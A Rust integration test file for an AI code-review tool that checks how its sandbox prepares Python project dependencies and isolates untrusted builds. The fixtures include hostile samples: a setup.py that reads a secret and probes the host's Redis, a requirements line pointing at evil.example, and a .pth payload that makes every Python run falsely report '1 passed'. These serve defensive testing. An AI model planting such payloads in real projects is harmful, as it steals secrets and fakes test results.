//! Proofs on projects laid out as real ones are: each declares what its tests need in its
//! own way (pyproject only, setup.py only, a test extra, a dev requirements file with a
//! tool no registry serves, tox), and the sandbox prepares it in a preparation container
//! before the Prover's test runs. And the opposite: a hostile sdist's build runs only in
//! that container — never on the host, never with the host's secrets.

use proven_change::testing::TestRepo;
use proven_models::scripted::ScriptedServer;
use proven_store::testing::Backend;
use serde_json::json;

use crate::common::{Env, json as parse, text};

/// The buggy function, and the code around it: `module` holds `add`, which imports
/// `dependency` (so a missing dependency fails collection: no proof without it).
fn project(files: &[(&str, String)], module: &str, dependency: &str) -> (TestRepo, String) {
    let repo = TestRepo::new();
    let code = |op: &str| format!("import {dependency}\n\n\ndef add(a, b):\n    return a {op} b\n");
    for (path, text) in files {
        repo.write(path, text);
    }
    repo.write(module, code("+"));
    let base = repo.commit("base");
    repo.write(module, code("-"));
    repo.commit("change: add subtracts");
    (repo, base)
}

/// Every model scripted: the Planner names the bug in `module`, the Prover writes a test
/// importing `import_line`, the Skeptic concedes naming the test, the Fixer answers `fix`.
fn scripted(server: &ScriptedServer, module: &str, import_line: &str, fix: serde_json::Value) {
    crate::agents::script_add_bug(
        server,
        module,
        json!({"test_path": "tests/test_proven_add.py",
            "test_code": format!("{import_line}\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"),
            "tests": ["test_add"]}),
        fix,
    );
}

fn review(
    env: &Env,
    server: &ScriptedServer,
    repo: &TestRepo,
    base: &str,
    extra: &[(&str, &str)],
) -> std::process::Output {
    let mut cmd = crate::agents::agents(env, server);
    for (k, v) in extra {
        cmd.env(k, v);
    }
    crate::agents::review_with(&mut cmd, repo, base, "json")
}

fn no_fix() -> serde_json::Value {
    json!({"edits": [], "explanation": "none"})
}

/// The first finding's first run's preparation notes (what could not be prepared, ...).
fn environment(doc: &serde_json::Value) -> Vec<String> {
    doc["findings"][0]["evidence"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|e| e["run"]["environment"].as_array().into_iter().flatten())
        .filter_map(|l| l.as_str().map(String::from))
        .collect()
}

/// Must-show 1 of the issue: a project's dependencies declared only in pyproject (a src
/// layout), only in setup.py, in a test extra, in a dev requirements file beside a tool no
/// registry serves, and in tox's deps (in tox.ini, and kept in pyproject.toml): the Prover's test runs and proves in each, and what
/// could not be prepared is named.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_way_a_python_project_declares_its_dependencies_is_prepared_and_proves() {
    let pyproject = |extra: &str| {
        format!(
            "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n\
             [project]\nname = \"calc\"\nversion = \"0.1.0\"\n{extra}"
        )
    };
    // (what, the project's files, the module with the bug, what it imports, the test's import)
    type Case = (
        &'static str,
        Vec<(&'static str, String)>,
        &'static str,
        &'static str,
        &'static str,
    );
    let cases: Vec<Case> = vec![
        (
            "pyproject [project] dependencies, src layout",
            vec![
                ("pyproject.toml", pyproject("dependencies = [\"six==1.16.0\"]\n")),
                ("src/calc/__init__.py", String::new()),
            ],
            "src/calc/ops.py",
            "six",
            "from calc.ops import add",
        ),
        (
            "setup.py install_requires",
            vec![
                (
                    "setup.py",
                    "from setuptools import setup\n\nsetup(name='calc', version='0.1', packages=['calc'],\n      install_requires=['toml==0.10.2'])\n".into(),
                ),
                ("calc/__init__.py", String::new()),
            ],
            "calc/ops.py",
            "toml",
            "from calc.ops import add",
        ),
        (
            "a test extra",
            vec![
                (
                    "pyproject.toml",
                    pyproject("[project.optional-dependencies]\ntest = [\"attrs==23.2.0\"]\ndocs = [\"proven-no-such-docs-tool==9.9\"]\n"),
                ),
                ("src/calc/__init__.py", String::new()),
            ],
            "src/calc/ops.py",
            "attrs",
            "from calc.ops import add",
        ),
        (
            "a dev requirements file with one tool no registry serves",
            vec![
                (
                    "requirements-dev.txt",
                    "more-itertools==10.2.0\nproven-no-such-dev-tool-7d1f==9.9.9\n".into(),
                ),
            ],
            "ops.py",
            "more_itertools",
            "from ops import add",
        ),
        (
            "tox deps",
            vec![(
                "tox.ini",
                "[tox]\nenvlist = py311\n\n[testenv]\ndeps =\n    idna==3.6\ncommands = pytest {posargs}\n".into(),
            )],
            "ops.py",
            "idna",
            "from ops import add",
        ),
        (
            // tqdm/tqdm's way: tox's configuration kept in pyproject.toml, the test deps
            // in another section, referenced as `{[core]deps}`.
            "tox deps kept in pyproject.toml, by reference",
            vec![(
                "pyproject.toml",
                "[tool.tox]\nlegacy_tox_ini = \"\"\"\n[tox]\nenvlist = 3.{10,11}\n\n[core]\ndeps =\n    tomli-w==1.0.0\n\n[testenv]\ndeps =\n    {[core]deps}\ncommands = {envpython} -m pytest {posargs}\n\"\"\"\n".into(),
            )],
            "ops.py",
            "tomli_w",
            "from ops import add",
        ),
    ];
    let env = Env::new(Backend::Sqlite).await;
    for (name, files, module, dependency, import_line) in cases {
        let (repo, base) = project(&files, module, dependency);
        let server = ScriptedServer::start().await;
        scripted(&server, module, import_line, no_fix());
        let out = review(&env, &server, &repo, &base, &[("PROVEN_FIX_ATTEMPTS", "0")]);
        let doc = parse(&out);
        let findings = doc["findings"].as_array().expect("findings");
        assert_eq!(
            findings.len(),
            1,
            "{name}: the Prover's test runs and proves: {doc:#}\n{}",
            text(&out).1
        );
        assert_eq!(findings[0]["proof_level"], "reproduced", "{name}");
        if name.starts_with("a dev requirements file") {
            let lines = environment(&doc);
            assert!(
                lines.iter().any(|l| l.contains(
                    "not prepared: proven-no-such-dev-tool-7d1f==9.9.9 (requirements-dev.txt:2)"
                )),
                "{name}: the tool that cannot be had is named: {lines:?}"
            );
            assert!(
                doc["not_seen"]
                    .to_string()
                    .contains("proven-no-such-dev-tool-7d1f"),
                "and in the review: {doc:#}"
            );
        }
    }
    env.cleanup().await;
}

/// A review of an old revision (its base committed in mid-2023) of a project that pins
/// nothing prepares the project's requirements as of the base's time, for both sides: six
/// 1.16.0 (1.17.0 came in December 2024), which the Prover's test checks. With today's six
/// the base would not pass, and nothing would be proved. A base older than the image's
/// Python (3.11, released 2022-10-24) resolves as of that Python's release, the nearest
/// state of its requirements that runs there, said in the record.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_review_of_an_old_base_prepares_what_the_project_does_not_pin_as_of_then() {
    let env = Env::new(Backend::Sqlite).await;
    for (at, said) in [
        // 2023-06-01T00:00:00Z
        (
            1_685_577_600,
            "versions resolved as of 2023-06-01T00:00:00Z",
        ),
        // 2016-06-01T00:00:00Z: older than Python 3.11.
        (
            1_464_739_200,
            "asked for 2016-06-01T00:00:00Z, older than this Python (3.11, released 2022-10-24T00:00:00Z): resolved as of its release",
        ),
    ] {
        let repo = TestRepo::new();
        let code = |op: &str| format!("import six\n\n\ndef add(a, b):\n    return a {op} b\n");
        repo.write("requirements.txt", "six\n")
            .write("ops.py", code("+"));
        let base = repo.commit_at("base", at);
        repo.write("ops.py", code("-"));
        repo.commit_at("change: add subtracts", at + 3_600);
        let server = ScriptedServer::start().await;
        scripted(
            &server,
            "ops.py",
            "import six\nfrom ops import add\n\nassert six.__version__ == \"1.16.0\", six.__version__",
            no_fix(),
        );
        let out = review(&env, &server, &repo, &base, &[("PROVEN_FIX_ATTEMPTS", "0")]);
        let doc = parse(&out);
        let findings = doc["findings"].as_array().expect("findings");
        assert_eq!(findings.len(), 1, "{doc:#}\n{}", text(&out).1);
        assert_eq!(findings[0]["proof_level"], "reproduced");
        let lines = environment(&doc);
        assert!(
            lines.iter().any(|l| l.contains(said)),
            "the record says so: {lines:?}"
        );
    }
    env.cleanup().await;
}

/// Must-show 2 of the issue: a project whose own suite needs what only
/// test_requirements.txt declares gets its fix proved (the Fixer's patch passes the
/// finding's test and the project's suite, which could not even be collected without it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fix_is_proved_where_the_suite_needs_the_test_requirements() {
    let suite = "import attr\n\nfrom ops import add\n\n\n@attr.s\nclass Pair:\n    a = attr.ib()\n    b = attr.ib()\n\n\ndef test_add_zero():\n    p = Pair(1, 0)\n    assert add(p.a, p.b) == 1\n";
    let files = vec![
        ("test_requirements.txt", "attrs==23.2.0\n".to_string()),
        // The suite as the project documents it: tox, translated to pytest in the sandbox
        // (the coverage plugin's options dropped, never tox itself with its network).
        (
            "tox.ini",
            "[tox]\nenvlist = py311\n\n[testenv]\ndeps = -rtest_requirements.txt\ncommands = pytest --cov=ops -v {posargs:tests}\n".to_string(),
        ),
        ("tests/test_ops.py", suite.to_string()),
        ("tests/conftest.py", "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))\n".to_string()),
    ];
    let (repo, base) = project(&files, "ops.py", "os");
    let server = ScriptedServer::start().await;
    scripted(
        &server,
        "ops.py",
        "from ops import add",
        json!({"edits": [{"path": "ops.py", "old_text": "return a - b", "new_text": "return a + b"}],
               "explanation": "add adds again"}),
    );
    let env = Env::new(Backend::Sqlite).await;
    let out = review(&env, &server, &repo, &base, &[]);
    let doc = parse(&out);
    let f = &doc["findings"][0];
    assert_eq!(f["proof_level"], "reproduced", "{doc:#}");
    let patch = f["patch"]
        .as_object()
        .unwrap_or_else(|| panic!("the fix is proved: {f:#}"));
    let suite_run = patch["runs"]
        .as_array()
        .and_then(|r| r.last())
        .expect("the suite's run");
    assert_eq!(suite_run["outcome"], "passed", "{suite_run:#}");
    assert_eq!(
        suite_run["tests"]["passed"], 1,
        "the project's own test, the package's other test (never the Prover's): {suite_run:#}"
    );
    env.cleanup().await;
}

/// An sdist `NAME-VERSION.tar.gz` on a simple index the test serves from `dir` (its page
/// names every sdist of the project written so far).
fn sdist(dir: &std::path::Path, name: &str, version: &str, files: &[(&str, &str)]) {
    let package = dir.join("packages");
    std::fs::create_dir_all(&package).expect("mkdir");
    let file_name = format!("{name}-{version}.tar.gz");
    let file = std::fs::File::create(package.join(&file_name)).expect("sdist");
    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    let info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    let top = format!("{name}-{version}");
    for (path, body) in files.iter().copied().chain([("PKG-INFO", info.as_str())]) {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, format!("{top}/{path}"), body.as_bytes())
            .expect("tar");
    }
    tar.into_inner()
        .and_then(|gz| gz.finish())
        .expect("sdist written");
    let simple = dir.join("simple").join(name);
    std::fs::create_dir_all(&simple).expect("mkdir");
    let page = simple.join("index.html");
    let before = std::fs::read_to_string(&page).unwrap_or_default();
    let links = before
        .trim_start_matches("<html><body>")
        .trim_end_matches("</body></html>\n");
    std::fs::write(
        &page,
        format!("<html><body>{links}<a href=\"../../packages/{file_name}\">{file_name}</a></body></html>\n"),
    )
    .expect("index");
}

/// A package index the test serves: one sdist whose build (setup.py) writes a marker file,
/// reads a secret from its environment, and tries the host's Redis; its package records
/// what the build saw.
fn hostile_index(dir: &std::path::Path, marker: &std::path::Path) {
    let setup = format!(
        "import os, socket\n\
         from setuptools import setup\n\
         open({marker:?}, 'w').write('built here')\n\
         seen = os.environ.get('PROVEN_TEST_SECRET')\n\
         try:\n    socket.create_connection(('127.0.0.1', 6379), timeout=2).close()\n    net = 'reached'\n\
         except OSError as e:\n    net = type(e).__name__\n\
         os.makedirs('proven_canary', exist_ok=True)\n\
         open('proven_canary/__init__.py', 'w').write('SEEN = %r\\nNET = %r\\n' % (seen, net))\n\
         setup(name='proven-canary', version='1.0', packages=['proven_canary'])\n",
        marker = marker.display().to_string()
    );
    sdist(dir, "proven-canary", "1.0", &[("setup.py", &setup)]);
}

/// A requirement whose own requirements name pip (old pypandoc's do) puts that pip into the
/// environment; every later install would run it. The sandbox's own pip is kept: the
/// Prover's test, which checks that the environment's pip is not the requirement's, passes
/// on the base and proves the bug, and the record says what happened.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_requirement_that_brings_its_own_pip_never_replaces_the_sandboxs() {
    let index = tempfile::tempdir().expect("index dir");
    sdist(
        index.path(),
        "pip",
        "1.0",
        &[
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='pip', version='1.0', packages=['pip'])\n",
            ),
            ("pip/__init__.py", "__version__ = '1.0'\n"),
            (
                "pip/__main__.py",
                "raise SystemExit('the pip of 1.0 cannot install anything')\n",
            ),
        ],
    );
    sdist(
        index.path(),
        "needs-pip",
        "1.0",
        &[
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='needs-pip', version='1.0', py_modules=['needs_pip'], install_requires=['pip==1.0'])\n",
            ),
            ("needs_pip.py", "OK = True\n"),
        ],
    );
    let server_proc = crate::common::FileServer::start(index.path());
    let (repo, base) = project(
        &[("requirements.txt", "needs-pip==1.0\n".into())],
        "ops.py",
        "needs_pip",
    );
    let server = ScriptedServer::start().await;
    scripted(
        &server,
        "ops.py",
        "import pip\nfrom ops import add\n\nassert pip.__version__ != '1.0', 'the requirement replaced the sandbox pip'",
        no_fix(),
    );
    let env = Env::new(Backend::Sqlite).await;
    let registry = format!("index.test=127.0.0.1:{}", server_proc.port);
    let out = review(
        &env,
        &server,
        &repo,
        &base,
        &[
            ("PROVEN_SANDBOX_PIP_INDEX_URL", "http://index.test/simple"),
            ("PROVEN_SANDBOX_REGISTRIES", &registry),
            ("PROVEN_FIX_ATTEMPTS", "0"),
        ],
    );
    let doc = parse(&out);
    let findings = doc["findings"].as_array().expect("findings");
    assert_eq!(findings.len(), 1, "{doc:#}\n{}", text(&out).1);
    assert_eq!(findings[0]["proof_level"], "reproduced");
    let lines = environment(&doc);
    assert!(
        lines
            .iter()
            .any(|l| l.contains("pip 1.0 came with a requirement; the sandbox's own pip was kept")),
        "{lines:?}"
    );
    env.cleanup().await;
}

/// Issue 14, must-show 1: a pull request's requirements name an index of its own and
/// `--no-binary`; both lines are refused by name. The package itself comes from the
/// operator's index as an sdist, whose build runs in the preparation container only: its
/// marker never appears on the host, the secret of the reviewing process is never seen,
/// and the host's Redis is out of reach.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_sdist_build_never_runs_on_the_host_nor_sees_its_secrets() {
    let index = tempfile::tempdir().expect("index dir");
    let marker =
        std::env::temp_dir().join(format!("proven-marker-{}", uuid::Uuid::now_v7().simple()));
    hostile_index(index.path(), &marker);
    let server_proc = crate::common::FileServer::start(index.path());
    let secret = format!("canary-secret-{}", uuid::Uuid::now_v7().simple());
    let requirements =
        "--index-url http://evil.example/simple\n--no-binary proven-canary\nproven-canary==1.0\n";
    let (repo, base) = project(
        &[("requirements.txt", requirements.into())],
        "ops.py",
        "proven_canary",
    );
    let server = ScriptedServer::start().await;
    scripted(
        &server,
        "ops.py",
        "import proven_canary\nfrom ops import add\n\nassert proven_canary.SEEN is None, proven_canary.SEEN",
        no_fix(),
    );
    let env = Env::new(Backend::Sqlite).await;
    let registry = format!("index.test=127.0.0.1:{}", server_proc.port);
    let out = review(
        &env,
        &server,
        &repo,
        &base,
        &[
            ("PROVEN_TEST_SECRET", &secret),
            ("PROVEN_SANDBOX_PIP_INDEX_URL", "http://index.test/simple"),
            ("PROVEN_SANDBOX_REGISTRIES", &registry),
            ("PROVEN_FIX_ATTEMPTS", "0"),
        ],
    );
    let (stdout, stderr) = text(&out);
    let doc = parse(&out);
    assert!(!marker.exists(), "the sdist's build ran on the host");
    assert!(
        !stdout.contains(&secret) && !stderr.contains(&secret),
        "the secret reached the output"
    );
    // The package was built (in the container): the proof ran against it.
    let findings = doc["findings"].as_array().expect("findings");
    let trace = text(&env.run(&["trace", doc["review_id"].as_str().expect("id")])).0;
    assert_eq!(
        findings.len(),
        1,
        "{doc:#}\n{stderr}\n{}",
        trace
            .lines()
            .filter(|l| l.contains("sandbox_run"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    let lines = environment(&doc);
    for refused in ["requirements.txt:1", "requirements.txt:2"] {
        assert!(
            lines.iter().any(|l| l.contains(refused)),
            "{refused} is named as refused: {lines:?}"
        );
    }
    assert!(
        doc["not_seen"]
            .to_string()
            .contains("--index-url http://evil.example/simple")
    );
    // Nothing the build wrote anywhere Proven keeps holds the secret either.
    assert!(!trace.contains(&secret));
    let cache = std::env::temp_dir().join("proven-sandbox/cache/deps");
    let mut built = 0;
    for entry in walkdir::WalkDir::new(&cache).into_iter().flatten() {
        if entry.file_type().is_file() && entry.path().to_string_lossy().contains("proven_canary") {
            let body = std::fs::read_to_string(entry.path()).unwrap_or_default();
            assert!(!body.contains(&secret), "{}", entry.path().display());
            if entry.path().ends_with("proven_canary/__init__.py") {
                built += 1;
                assert!(body.contains("SEEN = None"), "{body}");
                assert!(
                    !body.contains("NET = 'reached'"),
                    "the build reached the host's Redis: {body}"
                );
            }
        }
    }
    assert!(
        built > 0,
        "the sdist was built, in the preparation container"
    );
    env.cleanup().await;
}

/// Issue 31, must-show 1, as a user sees it: a pull request that changes a comment in
/// setup.py (a new cache key) and puts a payload in the file setup.py execs, which would
/// make every Python in the prepared environment exit 0 saying "1 passed". A later pull
/// request with the same setup.py, a clean tree and a real bug is reviewed with the same
/// cache: the bug is reproduced.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pull_request_cannot_poison_the_environment_a_later_review_proves_in() {
    let marker = uuid::Uuid::now_v7().simple().to_string();
    let setup = |comment: &str| {
        format!(
            "# {marker} {comment}\nfrom setuptools import setup\nabout = {{}}\nexec(open('version.py').read(), about)\nsetup(name='poisoned', version=about['__version__'], py_modules=['ops'])\n"
        )
    };
    let payload = "__version__ = '1.0'\nimport glob, os\nfor d in glob.glob('/deps/venv/lib/python*/site-packages'):\n    try:\n        with open(os.path.join(d, 'aa_planted.pth'), 'w') as f:\n            f.write(\"import os; os.write(1, b'1 passed\\\\n'); os._exit(0)\\n\")\n    except OSError:\n        pass\n";
    let add = |op: &str, note: &str| format!("{note}def add(a, b):\n    return a {op} b\n");
    let repo = TestRepo::new();
    repo.write("setup.py", setup(""))
        .write("version.py", "__version__ = '1.0'\n")
        .write("ops.py", add("+", ""));
    let base = repo.commit("base");
    // The attack: a new key for setup.py, the payload, and a harmless edit of ops.py so the
    // review runs a test there.
    repo.write("setup.py", setup("reformatted"))
        .write("version.py", payload)
        .write("ops.py", add("+", "# tidied\n"));
    repo.commit("attack");
    let env = Env::new(Backend::Sqlite).await;
    let server = ScriptedServer::start().await;
    scripted(&server, "ops.py", "from ops import add", no_fix());
    let attacked = review(&env, &server, &repo, &base, &[("PROVEN_FIX_ATTEMPTS", "0")]);
    let attacked = parse(&attacked);
    assert_eq!(
        attacked["findings"].as_array().map(Vec::len),
        Some(0),
        "no bug in the attack: {attacked:#}"
    );
    // Later: force-pushed clean, the same setup.py, and a real bug.
    repo.write("version.py", "__version__ = '1.0'\n")
        .write("ops.py", add("-", "# tidied\n"));
    repo.commit("a real bug");
    let server = ScriptedServer::start().await;
    scripted(&server, "ops.py", "from ops import add", no_fix());
    let out = review(&env, &server, &repo, &base, &[("PROVEN_FIX_ATTEMPTS", "0")]);
    let doc = parse(&out);
    assert_eq!(
        doc["findings"][0]["proof_level"],
        "reproduced",
        "the later review proves the bug, whatever the attack left in the cache: {doc:#}\n{}",
        text(&out).1
    );
    env.cleanup().await;
}
